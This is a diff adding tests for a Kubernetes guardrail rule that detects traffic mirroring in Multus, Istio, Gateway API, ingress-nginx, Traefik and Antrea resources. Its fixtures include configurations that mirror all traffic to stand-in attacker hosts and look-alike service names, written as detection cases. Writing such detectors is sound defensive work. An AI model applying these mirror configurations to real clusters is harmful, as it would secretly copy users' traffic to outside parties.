@@ -1,0 +1,155 @@
+import { describe, expect, it } from 'vitest';
+import { inspect } from '../../src/guardrails/inspect.js';
+import type { GuardrailResult } from '../../src/guardrails/types.js';
+import { encodeCbor } from '../support/cbor.js';
+import { guardSettings, kube } from '../support/guardrails.js';
+import { encodeKube } from '../support/kube-protobuf.js';
+
+/**
+ * traffic_mirrored (src/guardrails/rules/traffic-mirrors.ts): a copy of traffic delivered
+ * elsewhere. A Multus attachment's ovs-cni mirror producer or consumer, a macvlan or macvtap in
+ * passthru; an Istio, Gateway API, ingress-nginx or Traefik mirror that leaves the namespace's own
+ * Services; an Antrea TrafficControl that mirrors or redirects. Day 41: an `ovs-mirror-producer`
+ * on the UPF's N3 attachment.
+ */
+
+const settings = guardSettings('guardrails: {}\n');
+const codes = (r: GuardrailResult) => [...new Set(r.violations.map((v) => v.code))].sort();
+const MIRRORED = ['traffic_mirrored'];
+const JSON_CT = 'application/json';
+const MERGE = 'application/merge-patch+json';
+const STRATEGIC = 'application/strategic-merge-patch+json';
+const JSON_PATCH = 'application/json-patch+json';
+const APPLY = 'application/apply-patch+yaml';
+const write = (path: string, body: object | string | Uint8Array, type = JSON_CT, method = 'POST') =>
+  inspect(kube(method, path), typeof body === 'string' || body instanceof Uint8Array ? body : JSON.stringify(body), type, false, settings);
+
+const NADS = '/apis/k8s.cni.cncf.io/v1/namespaces/cnf-upf/network-attachment-definitions';
+const conf = (c: object) => JSON.stringify({ cniVersion: '0.4.0', name: 'n3-upf', ...c });
+const nad = (c: object) => ({ apiVersion: 'k8s.cni.cncf.io/v1', kind: 'NetworkAttachmentDefinition', metadata: { name: 'n3-upf', namespace: 'cnf-upf' }, spec: { config: conf(c) } });
+const producer = { plugins: [{ type: 'ovs', bridge: 'br-n3', vlan: 310 }, { type: 'ovs-mirror-producer', bridge: 'br-n3', mirrors: [{ name: 'n3-tap', ingress: true, egress: true }] }] };
+const consumer = { plugins: [{ type: 'ovs', bridge: 'br-n3' }, { type: 'ovs-mirror-consumer', bridge: 'br-n3', mirrors: [{ name: 'n3-tap' }] }] };
+
+describe('traffic_mirrored: Multus attachments', () => {
+  it('finds an ovs-cni mirror producer or consumer, created, replaced or patched in every form', () => {
+    expect(codes(write(NADS, nad(producer)))).toEqual(MIRRORED);
+    expect(codes(write(NADS, nad(consumer)))).toEqual(MIRRORED);
+    expect(write(NADS, nad(producer)).violations[0]).toMatchObject({ path: 'spec.config', detail: expect.stringContaining('ovs-mirror-producer copies every packet of the attached pods to the OVS mirror "n3-tap"') });
+    expect(codes(write(`${NADS}/n3-upf`, nad(producer), JSON_CT, 'PUT'))).toEqual(MIRRORED);
+    const spec = { spec: { config: conf(producer) } };
+    for (const type of [MERGE, STRATEGIC]) expect(codes(write(`${NADS}/n3-upf`, spec, type, 'PATCH')), type).toEqual(MIRRORED);
+    expect(codes(write(`${NADS}/n3-upf`, [{ op: 'replace', path: '/spec/config', value: conf(producer) }], JSON_PATCH, 'PATCH'))).toEqual(MIRRORED);
+    const yaml = `apiVersion: k8s.cni.cncf.io/v1\nkind: NetworkAttachmentDefinition\nmetadata: {name: n3-upf}\nspec:\n  config: '${conf(producer)}'\n`;
+    expect(codes(write(`${NADS}/n3-upf?fieldManager=kubectl`, yaml, APPLY, 'PATCH'))).toEqual(MIRRORED);
+    expect(codes(write(NADS, yaml, 'application/yaml'))).toEqual(MIRRORED);
+    expect(codes(write(NADS, encodeCbor(nad(consumer)), 'application/cbor'))).toEqual(MIRRORED);
+    // A single plugin, not a conflist.
+    expect(codes(write(NADS, nad({ type: 'ovs-mirror-consumer', bridge: 'br-n3', mirrors: [{ name: 'm' }] })))).toEqual(MIRRORED);
+  });
+
+  it('finds a macvlan or macvtap in passthru mode (the node interface promiscuous, all of it the pod\'s)', () => {
+    expect(codes(write(NADS, nad({ type: 'macvlan', master: 'ens2f0', mode: 'passthru' })))).toEqual(MIRRORED);
+    expect(codes(write(NADS, nad({ type: 'macvtap', master: 'ens2f0', mode: 'passthru' })))).toEqual(MIRRORED);
+  });
+
+  it("asks nothing of the attachments CNF teams write every day", () => {
+    const routine = [
+      { type: 'bridge', bridge: 'br-lab', ipam: { type: 'host-local', subnet: '10.10.0.0/24' } },
+      { type: 'macvlan', master: 'ens2f1', mode: 'bridge' },
+      { type: 'ipvlan', master: 'ens2f1', mode: 'l2' },
+      { type: 'host-device', device: 'ens3f0' },
+      { type: 'sriov', vlan: 620, vlanQoS: 4, spoofchk: 'off', trust: 'on', ipam: {} },
+      { type: 'macvtap', master: 'ens2f1', mode: 'bridge' },
+      { type: 'tap', multiQueue: true, bridge: 'br-vm' },
+      { plugins: [{ type: 'ovs', bridge: 'br-n3', vlan: 310, mtu: 9000 }, { type: 'tuning', mtu: 9000 }] },
+    ];
+    for (const c of routine) expect(codes(write(NADS, nad(c))), JSON.stringify(c)).toEqual([]);
+    expect(codes(write(NADS, { ...nad({}), spec: { config: 'not json {' } }))).toEqual([]);
+  });
+
+  it('reads an attachment an Argo workflow creates, and one a ManifestWork carries', () => {
+    const manifest = JSON.stringify(nad(producer));
+    const wf = { apiVersion: 'argoproj.io/v1alpha1', kind: 'Workflow', metadata: { generateName: 'x-' }, spec: { entrypoint: 'm', templates: [{ name: 'm', resource: { action: 'apply', manifest } }] } };
+    expect(codes(write('/apis/argoproj.io/v1alpha1/namespaces/cnf-upf/workflows', wf))).toEqual(MIRRORED);
+    const work = { apiVersion: 'work.open-cluster-management.io/v1', kind: 'ManifestWork', metadata: { name: 'w', namespace: 'edge-1' }, spec: { workload: { manifests: [nad(consumer)] } } };
+    expect(codes(write('/apis/work.open-cluster-management.io/v1/namespaces/edge-1/manifestworks', work))).toEqual(MIRRORED);
+  });
+});
+
+const VS = '/apis/networking.istio.io/v1/namespaces/shop/virtualservices';
+const vs = (http: object[]) => ({ apiVersion: 'networking.istio.io/v1', kind: 'VirtualService', metadata: { name: 'checkout', namespace: 'shop' }, spec: { hosts: ['checkout'], http } });
+const route = { route: [{ destination: { host: 'checkout', subset: 'v1' } }] };
+
+describe('traffic_mirrored: mesh and gateway routes', () => {
+  it("finds an Istio mirror to another namespace's Service or a host outside the cluster", () => {
+    expect(codes(write(VS, vs([{ ...route, mirror: { host: 'collector.observability.svc.cluster.local' }, mirrorPercentage: { value: 100 } }])))).toEqual(MIRRORED);
+    expect(codes(write(VS, vs([{ ...route, mirrors: [{ destination: { host: 'shadow.attacker.example' }, percentage: { value: 100 } }] }])))).toEqual(MIRRORED);
+    expect(codes(write(VS, vs([{ ...route, mirror: { host: 'collector.observability' } }])))).toEqual(MIRRORED);
+    expect(codes(write(VS, vs([{ ...route, mirror: { host: '203.0.113.9' } }])))).toEqual(MIRRORED);
+    // A name that only looks like one of the namespace's Services: DNS resolves it outside.
+    expect(codes(write(VS, vs([{ ...route, mirror: { host: 'checkout.shop.svc.attacker.example' } }])))).toEqual(MIRRORED);
+    expect(write(VS, vs([{ ...route, mirror: { host: 'shadow.attacker.example' } }])).violations[0]).toMatchObject({ path: 'spec.http[0].mirror.host' });
+    // Patches: merge, JSON patch.
+    expect(codes(write(`${VS}/checkout`, { spec: { http: [{ ...route, mirror: { host: 'x.attacker.example' } }] } }, MERGE, 'PATCH'))).toEqual(MIRRORED);
+    expect(codes(write(`${VS}/checkout`, [{ op: 'add', path: '/spec/http/0/mirror', value: { host: 'x.attacker.example' } }], JSON_PATCH, 'PATCH'))).toEqual(MIRRORED);
+  });
+
+  it('reads a mirror a GitOps wrapper carries: a Fleet Bundle\'s files, a ManifestWork', () => {
+    const file = `apiVersion: networking.istio.io/v1\nkind: VirtualService\nmetadata: {name: checkout, namespace: shop}\nspec:\n  hosts: [checkout]\n  http:\n  - route: [{destination: {host: checkout}}]\n    mirror: {host: shadow.attacker.example}\n`;
+    const bundle = { apiVersion: 'fleet.cattle.io/v1alpha1', kind: 'Bundle', metadata: { name: 'shop', namespace: 'fleet-default' }, spec: { resources: [{ name: 'vs.yaml', content: file }] } };
+    expect(codes(write('/apis/fleet.cattle.io/v1alpha1/namespaces/fleet-default/bundles', bundle))).toEqual(MIRRORED);
+    const work = { apiVersion: 'work.open-cluster-management.io/v1', kind: 'ManifestWork', metadata: { name: 'w', namespace: 'edge-1' }, spec: { workload: { manifests: [vs([{ ...route, mirror: { host: 'shadow.attacker.example' } }])] } } };
+    expect(codes(write('/apis/work.open-cluster-management.io/v1/namespaces/edge-1/manifestworks', work))).toEqual(MIRRORED);
+  });
+
+  it('asks nothing of a shadow to the namespace\'s own Service, nor of retries, timeouts and faults', () => {
+    expect(codes(write(VS, vs([{ ...route, mirror: { host: 'checkout', subset: 'v2' }, mirrorPercentage: { value: 10 } }])))).toEqual([]);
+    expect(codes(write(VS, vs([{ ...route, mirrors: [{ destination: { host: 'checkout-v2.shop.svc.cluster.local' } }] }])))).toEqual([]);
+    expect(codes(write(VS, vs([{ ...route, retries: { attempts: 3, perTryTimeout: '2s' }, timeout: '10s', fault: { delay: { percentage: { value: 5 }, fixedDelay: '2s' } } }])))).toEqual([]);
+  });
+
+  const HR = '/apis/gateway.networking.k8s.io/v1/namespaces/shop/httproutes';
+  const hr = (filters: object[], backendFilters: object[] = []) => ({ apiVersion: 'gateway.networking.k8s.io/v1', kind: 'HTTPRoute', metadata: { name: 'checkout', namespace: 'shop' }, spec: { parentRefs: [{ name: 'public', namespace: 'gateway' }], hostnames: ['dev-checkout.example.dev'], rules: [{ filters, backendRefs: [{ name: 'checkout', port: 8080, filters: backendFilters }] }] } });
+  const mirror = (backendRef: object) => ({ type: 'RequestMirror', requestMirror: { backendRef } });
+
+  it("finds a Gateway API RequestMirror to another namespace, an Envoy Gateway Backend, or Istio's Hostname outside", () => {
+    expect(codes(write(HR, hr([mirror({ name: 'sink', namespace: 'lab', port: 80 })])))).toEqual(MIRRORED);
+    expect(codes(write(HR, hr([mirror({ group: 'gateway.envoyproxy.io', kind: 'Backend', name: 'collector' })])))).toEqual(MIRRORED);
+    expect(codes(write(HR, hr([mirror({ group: 'networking.istio.io', kind: 'Hostname', name: 'sink.attacker.example', port: 443 })])))).toEqual(MIRRORED);
+    expect(codes(write(HR, hr([], [mirror({ name: 'sink', namespace: 'lab', port: 80 })])))).toEqual(MIRRORED);
+    expect(codes(write('/apis/gateway.networking.k8s.io/v1/namespaces/shop/grpcroutes', { ...hr([mirror({ name: 'sink', namespace: 'lab', port: 80 })]), kind: 'GRPCRoute' }))).toEqual(MIRRORED);
+    expect(codes(write(`${HR}/checkout`, [{ op: 'add', path: '/spec/rules/0/filters/-', value: mirror({ name: 'sink', namespace: 'lab', port: 80 }) }], JSON_PATCH, 'PATCH'))).toEqual(MIRRORED);
+  });
+
+  it('asks nothing of header filters, nor of a mirror to a Service of the route\'s namespace', () => {
+    expect(codes(write(HR, hr([{ type: 'RequestHeaderModifier', requestHeaderModifier: { set: [{ name: 'x-env', value: 'dev' }] } }])))).toEqual([]);
+    expect(codes(write(HR, hr([mirror({ name: 'checkout-v2', port: 8080 })])))).toEqual([]);
+    expect(codes(write(HR, hr([mirror({ name: 'checkout-v2', namespace: 'shop', port: 8080 })])))).toEqual([]);
+  });
+
+  const ING = '/apis/networking.k8s.io/v1/namespaces/shop/ingresses';
+  const ing = (target: string) => ({ apiVersion: 'networking.k8s.io/v1', kind: 'Ingress', metadata: { name: 'shop', namespace: 'shop', annotations: { 'nginx.ingress.kubernetes.io/mirror-target': target } }, spec: { rules: [{ host: 'dev.shop.example.dev', http: { paths: [{ path: '/', pathType: 'Prefix', backend: { service: { name: 'shop', port: { number: 80 } } } }] } }] } });
+
+  it("finds ingress-nginx's mirror-target outside the Ingress's namespace, in JSON and protobuf", () => {
+    expect(codes(write(ING, ing('https://collector.attacker.example$request_uri')))).toEqual(MIRRORED);
+    expect(codes(write(ING, ing('http://sink.lab.svc.cluster.local$request_uri')))).toEqual(MIRRORED);
+    const proto = { ...ing('https://collector.attacker.example$request_uri'), spec: { rules: [{ host: 'dev.shop.example.dev' }] } };
+    expect(codes(write(ING, encodeKube(proto), 'application/vnd.kubernetes.protobuf'))).toEqual(MIRRORED);
+    expect(codes(write(ING, ing('http://shop-v2.shop.svc.attacker.example$request_uri')))).toEqual(MIRRORED);
+    expect(codes(write(ING, ing('http://shop-v2.shop.svc.cluster.local$request_uri')))).toEqual([]);
+    expect(codes(write(ING, ing('http://shop-v2.shop:8080$request_uri')))).toEqual([]);
+    expect(codes(write(ING, ing('https://$http_x_mirror$request_uri')))).toEqual(MIRRORED);
+  });
+
+  it("finds a TraefikService mirror to another namespace or provider, and Antrea's TrafficControl", () => {
+    const TS = '/apis/traefik.io/v1alpha1/namespaces/shop/traefikservices';
+    const ts = (m: object) => ({ apiVersion: 'traefik.io/v1alpha1', kind: 'TraefikService', metadata: { name: 'm', namespace: 'shop' }, spec: { mirroring: { name: 'shop', port: 80, mirrors: [{ port: 80, percent: 100, ...m }] } } });
+    expect(codes(write(TS, ts({ name: 'sink', namespace: 'lab' })))).toEqual(MIRRORED);
+    expect(codes(write(TS, ts({ name: 'sink@file', kind: 'TraefikService' })))).toEqual(MIRRORED);
+    expect(codes(write(TS, ts({ name: 'shop-v2' })))).toEqual([]);
+    const TC = '/apis/crd.antrea.io/v1alpha2/trafficcontrols';
+    const tc = (action: string) => ({ apiVersion: 'crd.antrea.io/v1alpha2', kind: 'TrafficControl', metadata: { name: 'mirror-web' }, spec: { appliedTo: { podSelector: { matchLabels: { app: 'web' } } }, direction: 'Both', action, targetPort: { vxlan: { remoteIP: '203.0.113.9' } } } });
+    expect(write(TC, tc('Mirror')).violations[0]).toMatchObject({ code: 'traffic_mirrored', detail: "TrafficControl copies the selected pods' packets to a vxlan port to 203.0.113.9" });
+    expect(codes(write(TC, tc('Redirect')))).toEqual(MIRRORED);
+  });
+});
